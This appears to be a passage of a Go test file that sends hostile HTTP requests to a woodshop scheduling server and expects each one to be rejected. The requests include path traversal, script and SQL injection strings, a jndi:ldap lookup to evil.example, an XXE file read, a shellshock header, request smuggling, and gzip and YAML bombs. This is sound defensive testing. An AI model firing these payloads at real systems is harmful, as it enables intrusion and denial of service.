package handlers

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"net/url"
	"strings"
	"testing"
)

const script = "<script>alert(1)</script>"

// hostileRequests is the table: each with the status that is right for it.
func hostileRequests(t *testing.T) []hostile {
	var all []hostile
	for _, some := range [][]hostile{
		hostilePaths(), hostileNumbers(), hostileMethods(), hostileHosts(), hostileOrigins(), hostileTypes(t), hostileSizes(),
		hostileShapes(), hostileTaps(), hostileForms(), hostileHeaders(), hostileQueries(), hostileFiles(t), hostileRecords(),
	} {
		all = append(all, some...)
	}
	return all
}

func hostilePaths() []hostile {
	const gone = "There is no page at"
	a64 := strings.Repeat("a", 64)
	return []hostile{
		{"a page that is not there", got("/nowhere"), 404, gone},
		{"up from the files", got("/static/../go.mod"), 404, gone},
		{"up from the files, packed", got("/static/..%2f..%2fgo.mod"), 404, gone},
		{"up from the files, dots packed", got("/static/%2e%2e/%2e%2e/etc/passwd"), 404, gone},
		{"up from the files, packed twice", got("/static/%252e%252e%252fgo.mod"), 404, gone},
		{"the machine's own files", got("/static//etc/passwd"), 404, gone},
		{"up by backslashes", got("/static/%5c..%5c..%5cgo.mod"), 404, gone},
		{"a file with an end in its midst", got("/static/app.css%00.png"), 404, gone},
		{"overlong UTF-8 for a dot", got("/static/%c0%ae%c0%ae/go.mod"), 404, gone},
		{"the folder of the files", got("/static/"), 404, gone},
		{"the folder without its slash", got("/static"), 404, gone},
		{"the records", got("/shop.db"), 404, gone},
		{"the records, from the photos", got("/photos/..%2fshop.db"), 404, gone},
		{"the records as a photo", got("/photos/..%2fshop.db.jpg"), 404, ""},
		{"a photo that is none", got("/photos/" + a64[:63] + ".jpg"), 404, ""},
		{"a photo by a question to the database", got("/photos/x'%20OR%20'1'='1.jpg"), 404, ""},
		{"a photo with NUL", got("/photos/%00.jpg"), 404, ""},
		{"the authority's key", got("/authority.pem"), 404, gone},
		{"the authority where there is none", got("/trust"), 404, gone},
		{"its certificate", got("/trust/faceside.crt"), 404, gone},
		{"the backups", got("/backups/"), 404, gone},
		{"the source", got("/.git/config"), 404, gone},
		{"the environment", got("/.env"), 404, gone},
		{"the profiler", got("/debug/pprof/heap"), 404, gone},
		{"another program's settings", got("/wp-login.php"), 404, gone},
		{"a pattern's file, upwards", got("/patterns/..%2f..%2fgo.mod/file"), 404, ""},
		{"a pattern that is not there", got("/patterns/" + url.PathEscape(script) + "/file"), 404, ""},
		{"a calendar by guessing", got("/calendars/shop/" + a64 + ".ics"), 404, ""},
		{"a calendar without a secret", got("/calendars/shop/"), 404, gone},
		{"a person's calendar by guessing", got("/calendars/people/1/" + a64 + ".ics"), 404, ""},
		{"a calendar of nobody", got("/calendars/people/-1/x.ics"), 404, ""},
		{"a slash too many", got("/week/"), 404, gone},
		{"a slash too many, before", got("//week"), 404, gone},
		{"another server's name in the path", got("//evil.example/week"), 404, gone},
		{"dots in the path", got("/week/../shop"), 404, gone},
		{"capitals", got("/WEEK"), 404, gone},
		{"a line's end in the path", got("/week%0d%0aSet-Cookie:%20x=alert(1)"), 404, gone},
		{"NUL in the path", got("/week%00"), 404, gone},
		{"bytes that are no text in the path", got("/%ff%fe"), 404, gone},
		{"a session in the path", got("/week;jsessionid=1"), 404, gone},
		{"script in the path", got("/" + script), 404, gone},
		{"script in the path, packed", got("/" + url.PathEscape(script)), 404, gone},
		{"a template in the path", got("/%7B%7B.%7D%7D$%7Bjndi:ldap://evil.example%7D"), 404, gone},
		{"a very long path", got("/" + strings.Repeat("a", 50_000)), 404, gone},
		{"an API of another number", got("/api/v2/shop"), 404, gone},
		{"what the API has not", got("/api/v1/people"), 404, gone},
		{"the API's root", got("/api/v1/"), 404, gone},
	}
}

// hostileNumbers ask for records by what is no number of one.
func hostileNumbers() []hostile {
	var all []hostile
	for _, path := range []string{"/steps/", "/commissions/", "/stations/", "/stock/boards/", "/api/v1/steps/"} {
		for _, number := range []string{"0", "-1", "9223372036854775807", "9223372036854775808", "1e3", "0x1", "1.5", "1'--", "999", "%EF%BC%91", "1%00"} {
			all = append(all, hostile{path + number, got(path + number), 404, ""})
		}
	}
	return append(all,
		hostile{"a step of a commission that is not there", got("/commissions/999/edit"), 404, ""},
		hostile{"a board's mark by a word", posted("/stock/boards/1/defects/x/remove", ""), 404, ""},
		hostile{"a cutting that is not there", got("/stock/cuttings/-5"), 404, ""},
	)
}

func hostileMethods() []hostile {
	const not = "cannot be sent to"
	return []hostile{
		{"DELETE", line("DELETE", "/steps/1", ""), 405, not},
		{"PUT", line("PUT", "/shop", ""), 405, not},
		{"PATCH", line("PATCH", "/commissions/1", ""), 405, not},
		{"TRACE", line("TRACE", "/", ""), 405, not},
		{"OPTIONS", line("OPTIONS", "/tap", ""), 405, not},
		{"OPTIONS of everything", line("OPTIONS", "*", ""), 404, ""},
		{"PROPFIND", line("PROPFIND", "/", ""), 405, not},
		{"a method in small letters", line("get", "/week", ""), 405, not},
		{"a method of one's own", line("BREW", "/", ""), 405, not},
		{"a tap by GET", got("/tap?kind=start&step=1"), 405, not},
		{"who is there by GET", got("/who?person=1"), 405, not},
		{"a form to a page", posted("/week", "a=b"), 405, not},
		{"a form to the API", posted("/api/v1/taps", "a=b"), 405, not},
		{"another method behind POST", posted("/week", "_method=DELETE", "X-HTTP-Method-Override: GET"), 405, not},
		{"CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n", 421, "not called"},
	}
}

func hostileHosts() []hostile {
	const not = "This server is not called"
	return []hostile{
		{"another name", got("/", "Host: evil.example"), 421, not},
		{"another name with our port", got("/", "Host: evil.example:8321"), 421, not},
		{"another name to the API", got("/api/v1/shop", "Host: evil.example"), 421, not},
		{"another name to a script", got("/bench", "Host: evil.example", "HX-Request: true"), 421, not},
		{"another name to the stream", got("/live", "Host: evil.example"), 421, not},
		{"another name to a file", got("/static/app.css", "Host: evil.example"), 421, not},
		{"another name to the health check", got("/healthz", "Host: evil.example"), 421, not},
		{"another name to a calendar", got("/calendars/shop/x.ics", "Host: evil.example"), 421, not},
		{"a tap under another name", posted("/tap", "kind=start&step=1", "Host: evil.example"), 421, not},
		{"a name that ends like ours", got("/", "Host: localhost.evil.example"), 421, not},
		{"a name that begins like our address", got("/", "Host: 127.0.0.1.evil.example"), 421, not},
		{"a name that is given, in part", got("/", "Host: evil-bench.example"), 421, not},
		{"a name below a given one", got("/", "Host: a.bench.example"), 421, not},
		{"an address of a cloud's insides", got("/", "Host: 169.254.169.254"), 421, not},
		{"an address of the network that is not ours", got("/", "Host: 192.0.2.77:8321"), 421, not},
		{"no name", got("/", "Host:"), 421, not},
		{"script as a name", got("/", "Host: "+script), 400, ""},
		{"a name with a space", got("/", "Host: a b"), 400, ""},
		{"a very long name", got("/", "Host: "+strings.Repeat("a", 5000)+".example"), 421, not},
		{"two names", got("/", "Host: localhost", "Host: evil.example"), 400, ""},
		{"no line for the name", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n", 400, ""},
		{"no line for the name, HTTP/1.0", "GET / HTTP/1.0\r\n\r\n", 421, not},
		{"another server's whole address", got("http://evil.example/"), 421, not},
		{"another server's whole address, encrypted", got("https://evil.example/week"), 421, not},
		{"another server by a proxy's header", got("/commissions/1/traveller", "X-Forwarded-Host: evil.example"), 200, ""},
		{"another server by the newer header", got("/commissions/1/traveller", "Forwarded: host=evil.example"), 200, ""},
	}
}

func hostileOrigins() []hostile {
	const not = "sent by a page of another site"
	return []hostile{
		{"a tap of another site", posted("/tap", "kind=start&step=1", "Origin: https://evil.example", "Sec-Fetch-Site: cross-site"), 403, not},
		{"a tap of another site, an older browser", posted("/tap", "kind=start&step=1", "Origin: https://evil.example"), 403, not},
		{"a tap of another port", posted("/tap", "kind=start&step=1", "Origin: http://localhost:1"), 403, not},
		{"a tap of a site beside", posted("/tap", "kind=start&step=1", "Sec-Fetch-Site: same-site"), 403, not},
		{"a tap of nowhere", posted("/tap", "kind=start&step=1", "Origin: null"), 403, not},
		{"a tap of a name like ours", posted("/tap", "kind=start&step=1", "Origin: http://localhost.evil.example"), 403, not},
		{"a forged script's tap", posted("/tap", "kind=start&step=1", "Origin: https://evil.example", "HX-Request: true"), 403, not},
		{"the shop from another site", posted("/shop", "name=x", "Sec-Fetch-Site: cross-site"), 403, not},
		{"a new calendar secret from another site", posted("/shop/calendars", "", "Sec-Fetch-Site: cross-site"), 403, not},
		{"a form as text from another site", typed("/who", "text/plain", "person=1", "Origin: https://evil.example"), 403, not},
		{"a photo from another site", typed("/steps/1/notes", "multipart/form-data; boundary=x", "--x--\r\n", "Origin: https://evil.example"), 403, not},
		{"a page that is not there, from another site", posted("/nowhere", "", "Sec-Fetch-Site: cross-site"), 403, not},
		{"the API from another site's script", got("/api/v1/shop", "Origin: https://evil.example", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: cors"), 200, ""},
	}
}

func hostileTypes(t *testing.T) []hostile {
	const not = "which is not read here"
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write(bytes.Repeat([]byte("a=b&"), 1<<20)) // a buffer takes everything
	_ = w.Close()
	return []hostile{
		{"JSON", typed("/tap", "application/json", `{"kind":"start","step":1}`), 415, not},
		{"text", typed("/tap", "text/plain", "kind=start&step=1"), 415, not},
		{"XML", typed("/tap", "application/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`), 415, not},
		{"no type", line("POST", "/tap", "kind=start", "Content-Length: 10"), 415, not},
		{"a type that is none", typed("/tap", "nonsense; =;=", "kind=start"), 415, not},
		{"a type with script", typed("/tap", script, "kind=start"), 415, not},
		{"two types", typed("/tap", "application/json", "kind=start", formOf), 415, not},
		{"a form in parts where none is", typed("/tap", "multipart/form-data; boundary=x", "--x--\r\n"), 415, not},
		{"a form where parts are", posted("/steps/1/notes", "text=x"), 415, not},
		{"a form where a file is", posted("/patterns", "file=x"), 415, not},
		{"JSON to the shop", typed("/shop", "application/json", `{"name":"x"}`), 415, not},
		{"a bomb of zeros", posted("/tap", packed.String(), "Content-Encoding: gzip"), 415, not},
		{"packed by something else", posted("/who", "person=1", "Content-Encoding: br"), 415, not},
		{"a form that a page carries", line("GET", "/week", "a=b", formOf, "Content-Length: 3"), 200, ""},
		{"JSON that a page carries", line("GET", "/week", "{}", "Content-Type: application/json", "Content-Length: 2"), 415, not},
		{"parts without an edge", typed("/steps/1/notes", "multipart/form-data", "x"), 422, "not written as a browser writes one"},
		{"parts without an end", typed("/steps/1/notes", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=text\r\n\r\nabc"), 422, ""},
		{"parts without a name", typed("/steps/1/notes", "multipart/form-data; boundary=x", "--x\r\n\r\nabc\r\n--x--\r\n"), 422, ""},
		{"no parts at all", typed("/patterns", "multipart/form-data; boundary=x", "--x--\r\n"), 422, "Choose a pattern file first."},
		{"an edge of a thousand letters", typed("/patterns", "multipart/form-data; boundary="+strings.Repeat("x", 1000), "--x--\r\n"), 422, ""},
	}
}

func hostileSizes() []hostile {
	const large = "larger than 256 kB"
	chunk := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", 300<<10, strings.Repeat("x", 300<<10))
	return []hostile{
		{"a large form", posted("/tap", "note="+strings.Repeat("x", 300<<10)), 413, large},
		{"a large form in chunks", line("POST", "/tap", chunk, formOf, "Transfer-Encoding: chunked"), 413, large},
		{"a form of ten gigabytes that never comes", line("POST", "/tap", "", formOf, "Content-Length: 10000000000"), 413, large},
		{"a form of more bytes than there are numbers", line("POST", "/tap", "", formOf, "Content-Length: 9223372036854775807"), 413, large},
		{"a length beyond numbers", line("POST", "/tap", "", formOf, "Content-Length: 9223372036854775808"), 400, ""},
		{"a length below nothing", line("POST", "/tap", "", formOf, "Content-Length: -1"), 400, ""},
		{"a length that is none", line("POST", "/tap", "", formOf, "Content-Length: ten"), 400, ""},
		{"a length with a sign", line("POST", "/tap", "x", formOf, "Content-Length: +1"), 400, ""},
		{"headers of a hundred kilobytes", got("/week", "X-Large: "+strings.Repeat("x", 100<<10)), 431, ""},
		{"ten thousand headers", got("/week", strings.TrimSuffix(strings.Repeat("X-Many: x\r\n", 10_000), "\r\n")), 431, ""},
		{"a cookie of twenty kilobytes", got("/week", "Cookie: "+tabletCookie+"="+strings.Repeat("x", 20<<10)), 200, ""},
		{"a line of a hundred kilobytes", got("/week?" + strings.Repeat("x", 100<<10)), 431, ""},
		{"a question of fifty kilobytes", got("/healthz?" + strings.Repeat("x=y&", 12<<10)), 200, ""},
		{"a form of a hundred thousand fields", posted("/tap", strings.Repeat("a&", 100_000)), 422, ""},
		{"a field name of two hundred kilobytes", posted("/tap", strings.Repeat("a", 200<<10)+"=b"), 422, ""},
		{"a pattern file that is too large", upload("/patterns", "file", "x.yaml", strings.Repeat("# x\n", 51<<10)), 422, "larger than 200 kB"},
		{"a form with a file that is far too large", upload("/patterns", "file", "x.yaml", strings.Repeat("x", 300<<10)), 422, "larger than 200 kB"},
		{"much beside a photo", upload("/steps/1/notes", "text", "", strings.Repeat("x", 70<<10)), 422, "larger than 64 kB"},
	}
}

// hostileShapes are requests that two servers could read in two ways, or none.
func hostileShapes() []hostile {
	smuggled := "GET /shop HTTP/1.1\r\nHost: localhost\r\n\r\n"
	return []hostile{
		{"a length and chunks", line("POST", "/tap", "0\r\n\r\n"+smuggled, formOf, "Content-Length: 6", "Transfer-Encoding: chunked"), 422, ""},
		{"chunks and a length", line("POST", "/tap", "0\r\n\r\n", formOf, "Transfer-Encoding: chunked", fmt.Sprintf("Content-Length: %d", 5+len(smuggled))), 422, ""},
		{"two lengths", line("POST", "/tap", smuggled, formOf, "Content-Length: 0", fmt.Sprintf("Content-Length: %d", len(smuggled))), 400, ""},
		{"chunks, and something else", line("POST", "/tap", "0\r\n\r\n", formOf, "Transfer-Encoding: chunked, identity"), 501, ""},
		{"what only looks like chunks", line("POST", "/tap", "0\r\n\r\n", formOf, "Transfer-Encoding: xchunked"), 501, ""},
		{"chunks twice", line("POST", "/tap", "0\r\n\r\n", formOf, "Transfer-Encoding: chunked", "Transfer-Encoding: chunked"), 501, ""},
		{"chunks with a space before the colon", line("POST", "/tap", "0\r\n\r\n", formOf, "Transfer-Encoding : chunked"), 400, ""},
		{"chunks after a tab", line("POST", "/tap", "0\r\n\r\n"+smuggled, formOf, "Transfer-Encoding:\tchunked"), 422, ""},
		{"chunks after a form feed", line("POST", "/tap", "0\r\n\r\n", formOf, "Transfer-Encoding:\x0bchunked"), 400, ""},
		{"a chunk of negative size", line("POST", "/tap", "-1\r\nx\r\n0\r\n\r\n", formOf, "Transfer-Encoding: chunked"), 422, ""},
		{"a chunk larger than numbers", line("POST", "/tap", "fffffffffffffffff\r\nx\r\n0\r\n\r\n", formOf, "Transfer-Encoding: chunked"), 422, ""},
		{"a chunk with a long remark", line("POST", "/tap", "1;"+strings.Repeat("x", 9000)+"\r\nx\r\n0\r\n\r\n", formOf, "Transfer-Encoding: chunked"), 422, ""},
		{"a chunk that is longer than it says", line("POST", "/tap", "1\r\nxyz\r\n0\r\n\r\n", formOf, "Transfer-Encoding: chunked"), 422, ""},
		{"a header that goes on in the next line", got("/nowhere", "X-Fold: a\r\n b"), 404, ""},
		{"a header without a name", got("/week", ": x"), 400, ""},
		{"a header without a colon", got("/week", "nonsense"), 400, ""},
		{"NUL in a header", got("/week", "X-Nul: a\x00b"), 400, ""},
		{"a line's end in a header", got("/week", "X-Cr: a\rb"), 400, ""},
		{"a space in a header's name", got("/week", "X Space: a"), 400, ""},
		{"two spaces in the first line", "GET  /week HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", 400, ""},
		{"no version", "GET /week\r\nHost: localhost\r\n\r\n", 400, ""},
		{"a version that there is not", "GET /week HTTP/3.7\r\nHost: localhost\r\n\r\n", 505, ""},
		{"a version that is none", "GET /week HTTP/1.x\r\nHost: localhost\r\n\r\n", 400, ""},
		{"HTTP/2 without having asked", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 421, "not called"},
		{"a method with a bracket", "G(T /week HTTP/1.1\r\nHost: localhost\r\n\r\n", 400, ""},
		{"TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", 400, ""},
		{"a mail", "EHLO evil.example\r\n\r\n", 400, ""},
		{"a target without a slash", got("week"), 400, ""},
		{"a target with a broken escape", got("/week%zz"), 400, ""},
		{"an expectation that there is not", got("/week", "Expect: the-unexpected"), 417, ""},
		{"a large form that is asked for first", line("POST", "/tap", "", formOf, "Content-Length: 10000000", "Expect: 100-continue"), 413, "larger"},
		{"a change to HTTP/2", got("/nowhere", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"), 404, ""},
		{"a change to something else", got("/nowhere", "Upgrade: websocket", "Sec-WebSocket-Key: x"), 404, ""},
		{"headers that are to be dropped on the way", got("/nowhere", "Connection: close, Cookie, Host"), 404, ""},
	}
}

const tapID = "tap_id=00000000-0000-4000-8000-0000000000aa"

func hostileTaps() []hostile {
	const noText = "signs in it that are no text"
	return []hostile{
		{"a tap of nobody", posted("/tap", tapID+"&kind=start&step=1", "Cookie: a=b"), 422, "Say first who is at this tablet"},
		{"a tap of somebody who is not there", posted("/tap", tapID+"&kind=start&step=1", "Cookie: "+personCookie+"=999"), 422, "Say first who"},
		{"a tap of a person by script", posted("/tap", tapID+"&kind=start&step=1", "Cookie: "+personCookie+"="+script), 422, "Say first who"},
		{"a tap without an id", posted("/tap", "kind=start&step=1"), 422, "no id of its own"},
		{"a tap with script as its id", posted("/tap", "tap_id="+url.QueryEscape(script)+"&kind=start&step=1"), 422, "no id of its own"},
		{"a tap of no kind", posted("/tap", tapID+"&step=1"), 422, "no tap called"},
		{"a tap of a kind by script", posted("/tap", tapID+"&step=1&kind="+url.QueryEscape(script)), 422, "no tap called"},
		{"two kinds, the first is none", posted("/tap", tapID+"&step=1&kind=nonsense&kind=start"), 422, "no tap called"},
		{"a step that is not there", posted("/tap", tapID+"&kind=start&step=999"), 404, ""},
		{"a step below nothing", posted("/tap", tapID+"&kind=start&step=-1"), 404, ""},
		{"a step beyond numbers", posted("/tap", tapID+"&kind=start&step=9223372036854775808"), 422, ""},
		{"a step in other digits", posted("/tap", tapID+"&kind=start&step=%D9%A1"), 422, ""},
		{"a step as a power", posted("/tap", tapID+"&kind=start&step=1e0"), 422, ""},
		{"a step that waits", posted("/tap", tapID+"&kind=finish&step=5"), 409, ""},
		{"an undo of what is not there", posted("/tap", tapID+"&kind=undo&undoes=999"), 404, ""},
		{"an undo of everything", posted("/tap", tapID+"&kind=undo&undoes=*"), 422, ""},
		{"a note with NUL", posted("/tap", tapID+"&kind=start&step=1&note=a%00b"), 422, noText},
		{"a note that is no UTF-8", posted("/tap", tapID+"&kind=start&step=1&note=%ff%fe"), 422, noText},
		{"a note of overlong UTF-8", posted("/tap", tapID+"&kind=start&step=1&note=%c0%bcscript%c0%be"), 422, noText},
		{"a note of half a character", posted("/tap", tapID+"&kind=start&step=1&note=%ed%a0%80"), 422, noText},
		{"a note that steers a terminal", posted("/tap", tapID+"&kind=start&step=1&note=%1b[2J"), 422, noText},
		{"a note that goes backwards", posted("/tap", tapID+"&kind=start&step=1&note=%08%08%08"), 422, noText},
		{"a field's name that is no UTF-8", posted("/tap", tapID+"&kind=start&step=1&%ff=1"), 422, noText},
		{"a note that is too long", posted("/tap", tapID+"&kind=start&step=1&note="+strings.Repeat("x", 3000)), 422, ""},
		{"a broken escape", posted("/tap", tapID+"&kind=start&step=1&note=%zz"), 422, "not written as a browser"},
		{"fields parted by semicolons", posted("/tap", tapID+";kind=start;step=1"), 422, "not written as a browser"},
		{"fields as a list", posted("/tap", "tap_id[]=x&kind[]=start&step[$gt]=0"), 422, "no id of its own"},
		{"a queue's number below nothing", posted("/tap", tapID+"&kind=start&step=1&queue=q&number=-1&person=1", "Accept: application/json"), 200, ""},
		{"a queue's number beyond numbers", posted("/tap", tapID+"&kind=start&step=1&queue=q&number=99999999999999999999&person=1", "Accept: application/json"), 200, ""},
		{"a queue that waited before it began", posted("/tap", tapID+"&kind=start&step=1&queue=q&number=1&person=1&late=on&waited=-5", "Accept: application/json"), 200, ""},
		{"a queue that waited a thousand years", posted("/tap", tapID+"&kind=start&step=1&queue=q&number=1&person=1&late=on&waited=99999999999999", "Accept: application/json"), 200, ""},
		{"trouble of no kind", posted("/tap", tapID+"&kind=trouble&step=1&trouble=nonsense:1"), 422, ""},
		{"trouble with script", posted("/tap", tapID+"&kind=trouble&step=1&trouble="+url.QueryEscape(script)), 422, ""},
		{"a tick without an id", posted("/ticks", "step=1&part=1&person=1&number=1&done=on"), 422, "no id of its own"},
		{"a tick of a part that is not there", posted("/ticks", "tick_id=00000000-0000-4000-8000-0000000000ab&step=1&part=999&person=1&number=1"), 422, ""},
		{"a tick beyond numbers", posted("/ticks", "tick_id=00000000-0000-4000-8000-0000000000ab&step=1&part=1&person=1&number=4294967297"), 422, ""},
		{"a tick of nobody", posted("/ticks", "tick_id=00000000-0000-4000-8000-0000000000ab&step=1&part=1&person=0&number=1"), 422, ""},
		{"an answer to a tap that never came back", posted("/taps/"+url.PathEscape(script), "answer=left"), 404, ""},
		{"back to another server", posted("/tap", tapID+"&kind=nonsense&step=1&back=//evil.example"), 422, ""},
		{"nobody known says that they are there", posted("/who", "person="+url.QueryEscape(script)), 422, ""},
		{"somebody beyond numbers is there", posted("/who", "person=99999999999999999999"), 422, ""},
	}
}

// hostileForms send script in every field there is to each form; none is accepted, as a
// number or a choice among them cannot be read.
func hostileForms() []hostile {
	const s = "%3Cscript%3Ealert(1)%3C/script%3E"
	fields := func(names string) string {
		var all []string
		for name := range strings.FieldsSeq(names) {
			all = append(all, name+"="+s)
		}
		return strings.Join(all, "&")
	}
	return []hostile{
		{"script for the shop", posted("/shop", fields("name time_zone units fraction temperature humidity language")), 422, ""},
		{"script for the language", posted("/shop/language", fields("language")), 422, ""},
		{"script for the hours", posted("/shop/hours", fields("monday_0 monday_1 tuesday_0")), 422, ""},
		{"script for a day off", posted("/shop/days-off", fields("date person note")), 422, ""},
		{"script for a person", posted("/shop/people/1", fields("active email")+"&name="), 422, ""},
		{"script for a station", posted("/shop/stations", fields("name kind places zone setup_minutes greatest_width")), 422, ""},
		{"script for clamps", posted("/shop/clamps", fields("name reach count")), 422, ""},
		{"script for a glue", posted("/shop/glues", fields("name open clamp cure least_temperature caution")), 422, ""},
		{"script for a finish", posted("/shop/finishes", fields("name recoat_least recoat_most dry cure caution")), 422, ""},
		{"script for a commission", posted("/commissions/1", fields("name client promised_date weight note revision")), 422, ""},
		{"script for a commission's state", posted("/commissions/1/state", fields("state")), 422, ""},
		{"script for a new commission", posted("/commissions/new/hall-bench", fields("name client promised_date weight measure.length choice.species")), 422, ""},
		{"script for a pattern", got("/commissions/new/" + s), 404, ""},
		{"script for its preview", posted("/commissions/new/hall-bench/preview", fields("name measure.length choice.species"), "HX-Request: true"), 200, ""},
		{"script for a step", posted("/commissions/1/edit/add", fields("name phase station attended hands after before edition keep")), 422, ""},
		{"script for a remedy", posted("/commissions/1/edit/remedy", fields("edition check key")), 409, ""},
		{"script for a pin", posted("/steps/1/pin", fields("person at day time")), 422, ""},
		{"script for a board", posted("/stock/boards", fields("name species length width thickness quarter")), 422, ""},
		{"script for a cutting", posted("/stock/cuttings", fields("board part length key")), 422, ""},
		{"script for a what-if", posted("/what-if", fields("kind act revision step days")), 409, ""},
		{"script for the tablet", posted("/tablet", fields("name person station")), 422, ""},
		{"script for a calendar", posted("/shop/calendars", fields("person")), 422, ""},
		{"script for a note that is to go", posted("/steps/1/notes/remove", fields("note")), 404, ""},
		{"script for a pattern that is to go", posted("/patterns/"+s+"/remove", ""), 404, ""},
		{"a station that a database is asked for", posted("/shop/zones", "name=&stations='%20OR%201=1%20--&people=1"), 422, ""},
	}
}

func hostileHeaders() []hostile {
	return []hostile{
		{"a forged script's request", got("/week", "HX-Request: true"), 200, ""},
		{"a forged target", got("/nowhere", "HX-Request: true", "HX-Target: "+script, "HX-Trigger: "+script), 404, ""},
		{"a forged place", got("/nowhere", "HX-Current-URL: https://evil.example/"+script), 404, ""},
		{"a forged script's tap that cannot be", posted("/tap", "kind=start", "HX-Request: true"), 422, ""},
		{"another path by a proxy's header", got("/nowhere", "X-Original-URL: /shop", "X-Rewrite-URL: /shop"), 404, ""},
		{"another address by a proxy's header", got("/nowhere", "X-Forwarded-For: 127.0.0.1, "+script), 404, ""},
		{"a part of a page", got("/week", "Range: bytes=0-10"), 200, ""},
		{"a thousand parts of a file", got("/static/app.css", "Range: bytes="+strings.Repeat("0-,", 1000)+"0-"), 200, ""},
		{"a part beyond the end", got("/static/app.css", "Range: bytes=99999999-"), 200, ""},
		{"a tag that is none", got("/static/app.css", "If-None-Match: "+script), 200, ""},
		{"a time that is none", got("/week", "If-Modified-Since: yesterday"), 200, ""},
		{"a thousand codings", got("/week", "Accept-Encoding: "+strings.Repeat("gzip;q=0.0001,", 1000)), 200, ""},
		{"what is accepted, by script", got("/week", "Accept: "+script), 200, ""},
		{"a language by script", got("/week", "Accept-Language: "+script), 200, ""},
		{"a tablet's cookie by a question to the database", got("/week", "Cookie: "+tabletCookie+"='; DROP TABLE taps; --"), 200, ""},
		{"a tablet's cookie by script", got("/week", "Cookie: "+tabletCookie+"="+script), 200, ""},
		{"a tablet's cookie twice", got("/week", "Cookie: "+tabletCookie+"=a; "+tabletCookie+"=b"), 200, ""},
		{"a person's cookie below nothing", got("/", "Cookie: "+personCookie+"=-1"), 200, ""},
		{"a person's cookie beyond numbers", got("/", "Cookie: "+personCookie+"=99999999999999999999"), 200, ""},
		{"a program's name by script", got("/week", "User-Agent: () { :;}; "+script), 200, ""},
		{"where it came from, by script", got("/week", "Referer: "+script), 200, ""},
		{"a sign-in that is none", got("/week", "Authorization: Basic OjpyZWFs"), 200, ""},
		{"a message to a service worker", got("/sw.js", "Service-Worker: "+script), 404, ""},
	}
}

func hostileQueries() []hostile {
	const s = "%3Cscript%3Ealert(1)%3C/script%3E"
	return []hostile{
		{"the sheets of a day that is none", got("/sheets?day=" + s), 422, ""},
		{"the sheets of the last day", got("/sheets?day=9999-12-31"), 200, ""},
		{"the sheets of a day before days", got("/sheets?day=0000-00-00"), 422, ""},
		{"the week of a day by script", got("/week?day=" + s + "&span=" + s), 200, ""},
		{"the week of a year beyond years", got("/week?day=99999999-01-01"), 200, ""},
		{"a table for nobody", got("/plan.csv?for=" + s), 422, ""},
		{"no items", got("/api/v1/steps?limit=0"), 422, "limit"},
		{"fewer than no items", got("/api/v1/steps?limit=-1"), 422, "limit"},
		{"a thousand million items", got("/api/v1/steps?limit=1000000000"), 422, "limit"},
		{"items by script", got("/api/v1/steps?limit=" + s), 422, "limit"},
		{"items after a number beyond numbers", got("/api/v1/taps?after=9223372036854775808"), 422, "after"},
		{"items before the first", got("/api/v1/commissions?after=-1"), 422, "after"},
		{"items after a question to the database", got("/api/v1/stations?after=0%20OR%201=1"), 422, "after"},
		{"two limits, the first is none", got("/api/v1/steps?limit=x&limit=1"), 422, "limit"},
		{"a broken question", got("/week?%zz=1;a=b"), 200, ""},
		{"a what-if by script", got("/what-if?kind=" + s + "&step=" + s), 422, ""},
		{"what was steered, by script", got("/steered?kept=" + s), 200, ""},
		{"a note's way back to another server", got("/steps/1/note?back=//evil.example"), 200, ""},
		{"the time book by script", got("/times?kind=" + s + "&person=" + s), 200, ""},
		{"the cuts of a species by script", got("/stock/cuts?species=" + s + "&thickness=" + s), 200, "-"},
		{"the boards to buy by script", got("/stock/buy?waste=" + s), 200, "-"},
	}
}

// upload is a form with one file in it, or for a file without a name a field.
func upload(target, field, file, content string) string {
	disposition := fmt.Sprintf("Content-Disposition: form-data; name=%q", field)
	if file != "" {
		disposition += "; filename=\"" + file + "\"\r\nContent-Type: application/octet-stream"
	}
	note := "--edge\r\nContent-Disposition: form-data; name=\"note_id\"\r\n\r\n00000000-0000-4000-8000-0000000000ac\r\n"
	body := note + "--edge\r\n" + disposition + "\r\n\r\n" + content + "\r\n--edge--\r\n"
	return typed(target, "multipart/form-data; boundary=edge", body)
}

// pngOf is the beginning of a PNG that says it has so many pixels.
func pngOf(width, height uint32) string {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	head := append([]byte("IHDR"), binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)...)
	head = append(head, 8, 6, 0, 0, 0)
	b.Write(binary.BigEndian.AppendUint32(nil, uint32(len(head)-4)))
	b.Write(head)
	b.Write(binary.BigEndian.AppendUint32(nil, crc32.ChecksumIEEE(head)))
	return b.String()
}

func hostileFiles(t *testing.T) []hostile {
	photo := func(content string) string { return upload("/steps/1/notes", "photo", "IMG.JPG", content) }
	pattern := func(content string) string { return upload("/patterns", "file", "x.yaml", content) }
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'i'; c++ {
		p := string(c - 1)
		bomb += fmt.Sprintf("%c: &%c [*%s,*%s,*%s,*%s,*%s,*%s,*%s,*%s,*%s]\n", c, c, p, p, p, p, p, p, p, p, p)
	}
	return []hostile{
		{"a picture of ten thousand million pixels", photo(pngOf(100_000, 100_000)), 422, "million"},
		{"a picture of more pixels than numbers", photo(pngOf(0xffffffff, 0xffffffff)), 422, ""},
		{"a picture of no pixels", photo(pngOf(0, 0)), 422, ""},
		{"a picture that breaks off", photo(pngOf(10, 10)), 422, "damaged or broken off"},
		{"a drawing with script", photo(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 422, "not a picture"},
